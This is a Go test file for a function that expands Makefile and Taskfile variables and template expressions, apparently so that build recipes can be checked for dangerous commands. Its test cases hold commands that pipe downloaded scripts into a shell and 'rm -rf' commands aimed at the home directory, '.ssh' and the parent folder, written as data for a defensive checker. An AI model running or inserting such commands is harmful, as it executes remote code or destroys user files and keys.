package engine

import "testing"

func TestMakeVars(t *testing.T) {
	content := "URL = https://h.example/s.sh # the script\nHOST := https://h.example\nSH := $(SHELL)\nVER := $(shell git describe)\nOUT ?= bin\nOUT ?= other\n"
	defs := makeDefs(content)
	for _, c := range []struct{ line, want string }{
		{"curl -s $(URL) | $(SHELL)", "curl -s https://h.example/s.sh | /bin/sh"},
		{"curl -s ${HOST}/i.sh | $(SH)", "curl -s https://h.example/i.sh | /bin/sh"},
		{"rm -rf $(HOME)", "rm -rf ${HOME}"},
		{"go build -ldflags -X=main.v=$(VER) -o $(OUT)/app", "go build -ldflags -X=main.v=${VER} -o bin/app"},
		{"echo $$PATH", "echo $PATH"},
		{"go test ./...", "go test ./..."},
	} {
		if got := makeVars(c.line, defs); got != c.want {
			t.Errorf("makeVars(%q) = %q, want %q", c.line, got, c.want)
		}
	}
	more := makeDefs("define BOOT\ncurl -s https://h/b.sh | sh\nendef\nS = sh\nsetup: U = https://h/u.sh\nH := $(HOME)\n")
	for _, c := range []struct{ line, want string }{
		{"$(BOOT)", "curl -s https://h/b.sh | sh"},
		{"curl -s https://h/b.sh | $S", "curl -s https://h/b.sh | sh"},
		{"curl -s $(U) | sh", "curl -s https://h/u.sh | sh"},
		{"rm -rf $(H)", "rm -rf ${HOME}"},
		{"rm -rf $(CURDIR)/..", "rm -rf ./.."},
		{"rm -rf $PWD/x", "rm -rf $PWD/x"},
	} {
		if got := makeVars(c.line, more); got != c.want {
			t.Errorf("makeVars(%q) = %q, want %q", c.line, got, c.want)
		}
	}
	if got := recipePrefix(".RECIPEPREFIX = >\nall:\n> go build\n"); got != ">" {
		t.Errorf("recipePrefix = %q, want >", got)
	}
	if got := ruleRecipe("setup: ; curl -s https://h/b.sh | sh"); got != "curl -s https://h/b.sh | sh" {
		t.Errorf("ruleRecipe = %q", got)
	}
	if got := ruleRecipe("X := a; b"); got != "" {
		t.Errorf("ruleRecipe of an assignment = %q", got)
	}
	if got := makeVars("$(SHELL) x.sh", makeDefs("SHELL := /bin/bash\n")); got != "/bin/bash x.sh" {
		t.Errorf("SHELL set by the file: %q", got)
	}
}

func TestTaskfileExpand(t *testing.T) {
	content := "version: '3'\nvars:\n  TARGET: /home/dev\ntasks:\n  x:\n    cmds:\n      - rm -rf {{.TARGET}}\n    vars:\n      H:\n        sh: echo $HOME\n"
	defs := taskfileDefs(content)
	defs["T2"], defs["LOOP"] = "{{.HOME}}", "{{.LOOP}}"
	for _, c := range []struct{ line, want string }{
		{"rm -rf {{.TARGET}}", "rm -rf /home/dev"},
		{"rm -rf {{ .H }}/", "rm -rf $(echo $HOME)/"},
		{"rm -rf {{.HOME}}/.ssh", "rm -rf ${HOME}/.ssh"},
		{"rm -rf {{.ROOT_DIR}}/dist", "rm -rf ./dist"},
		{"rm -rf {{.T2}}", "rm -rf ${HOME}"},
		{"echo {{.LOOP}}", "echo ${LOOP}"},
		{`rm -rf {{env "HOME"}}`, "rm -rf ${HOME}"},
		{`rm -rf {{joinPath .HOME ".ssh"}}`, "rm -rf ${HOME}/.ssh"},
		{`rm -rf {{- .TARGET -}}`, "rm -rf /home/dev"},
		{`curl {{printf "%s/%s" "https://h" "s.sh"}} | sh`, "curl https://h/s.sh | sh"},
		{`curl {{default "https://h/s.sh" .URL}} | sh`, "curl https://h/s.sh | sh"},
		{`{{$u := "https://h/s.sh"}}curl {{$u}} | sh`, "curl https://h/s.sh | sh"},
		{`echo {{.X | upper}}`, "echo {{.X | upper}}"},
		{"go test ./...", "go test ./..."},
	} {
		if got := taskfileExpand(c.line, defs); got != c.want {
			t.Errorf("taskfileExpand(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}
